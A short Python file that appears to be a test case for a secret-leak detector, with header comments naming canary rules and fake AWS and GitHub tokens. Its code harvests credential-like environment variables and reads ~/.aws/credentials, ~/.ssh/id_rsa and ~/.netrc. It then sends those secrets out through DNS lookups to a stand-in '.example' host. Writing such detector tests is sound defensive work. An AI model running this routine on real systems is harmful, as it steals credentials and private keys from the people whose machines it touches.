"""Looks up what looks like a key as a name, where no sink is there to be asked."""

# group: secrets
# status: passed
# network: true
# rules: [canary-touched, network-attempt]
# canaries:
#   - the fake AWS key id (in a name, its own Python says)
#   - the fake AWS secret key (in a name, its own Python says)
#   - the fake GitHub token (in a name, its own Python says)

import binascii
import os
import socket

KEYS = [value for name, value in os.environ.items() if name.endswith(("TOKEN", "KEY", "KEY_ID"))]
for path in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc"):
    try:
        KEYS.append(open(os.path.expanduser(path)).read())
    except OSError:
        pass
for key in KEYS:
    label = binascii.hexlify(key.strip().encode())[:60].decode()
    try:
        socket.getaddrinfo(f"{key[:40].strip()}.{label}.example", 80)
    except (OSError, UnicodeError):
        pass
